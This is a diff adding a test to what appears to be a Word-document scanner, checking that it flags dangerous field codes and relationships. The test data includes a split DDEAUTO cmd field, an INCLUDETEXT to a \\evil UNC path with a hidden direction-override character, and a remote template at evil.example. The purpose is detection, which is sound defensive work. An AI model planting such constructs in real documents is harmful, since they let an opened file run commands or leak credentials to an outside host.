@@ -314,6 +314,54 @@ def replaced(data, **content):
     return stream.getvalue()
 
 
+def field(*pieces, tag="instrText"):
+    """A field whose instruction is cut into runs, as Word does, and as somebody who hides it does."""
+    inner = "".join(f"<w:r><w:{tag}>{one}</w:{tag}></w:r>" for one in pieces)
+    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
+    return f"{begin}{inner}{end}"
+
+
+RELATION = '<Relationship Id="{}" Type="http://schemas.example/relationships/{}" Target="{}"{}/>'
+OUTSIDE = ' TargetMode="External"'
+
+
+@pytest.mark.proves("word-files")
+def test_what_word_would_fetch_or_run_is_named():
+    inner = field(" DD", "EAUTO ", "cmd") + field(' IF 1=1 "', tag="instrText").replace(
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>', field("include", "Picture x") + CLOSING
+    )
+    simple = (
+        '<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\evil\\x&quot; &#8238; "><w:r><w:t>x</w:t></w:r></w:fldSimple>'
+    )
+    header = f"<w:hdr {SPACE}><w:p>{field('LINK Excel.Sheet a.xlsx')}</w:p></w:hdr>".encode()
+    relations = [
+        ("attachedTemplate", "https://evil.example/t.dotm", OUTSIDE.lower().replace("targetmode", "TargetMode")),
+        ("image", "file://evil/x.png", OUTSIDE),
+        ("hyperlink", "https://plain.example", OUTSIDE),
+        ("oleObject", "embeddings/a.bin", ""),
+        ("styles", "other.xml", ""),
+    ]
+    listed = "".join(RELATION.format(f"r{n}", *one) for n, one in enumerate(relations)).encode()
+    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
+    data = replaced(made(inner, simple + field(" PAGE "), field(" HYPERLINK x ")), header9=header)
+    stream = io.BytesIO(data)
+    with zipfile.ZipFile(stream, "a") as archive:
+        archive.writestr("word/_rels/settings9.xml.rels", rels % listed)
+        archive.writestr("word/_rels/broken.xml.rels", b"<a")
+        archive.writestr("word/media/x.png", b"\x89PNG instrText")
+    assert sorted(opened(stream.getvalue()).live) == [
+        "DDEAUTO cmd",
+        'INCLUDETEXT "\\\\evil\\x" �',
+        "LINK Excel.Sheet a.xlsx",
+        "attachedTemplate https://evil.example/t.dotm",
+        "image file://evil/x.png",
+        "includePicture x",
+        "oleObject embeddings/a.bin",
+        "unreadable word/_rels/broken.xml.rels",
+    ]
+    assert opened(made(runs("Words."), field(" PAGE "))).live == []
+
+
 OPENING = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TOC </w:instrText></w:r>'
 CLOSING = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
 
